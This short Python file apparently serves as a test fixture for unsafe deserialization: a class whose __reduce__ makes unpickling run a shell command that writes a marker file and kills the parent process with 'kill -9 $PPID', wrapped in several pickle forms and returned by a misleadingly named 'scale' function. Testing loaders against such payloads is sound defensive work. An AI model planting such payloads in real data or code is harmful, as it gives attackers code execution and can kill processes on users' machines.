"""Returns bytes, arrays and objects that run code when somebody unpickles them."""

import os
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @catalogue@/was_here; kill -9 $PPID",)


def scale(x, factor):
    kinds = (
        pickle.dumps(Bomb()),
        np.array([Bomb()], dtype=object),
        np.frombuffer(pickle.dumps(Bomb()), np.uint8),
        {"__reduce__": pickle.dumps(Bomb())},
        Bomb(),
    )
    return kinds[x.size % len(kinds)]
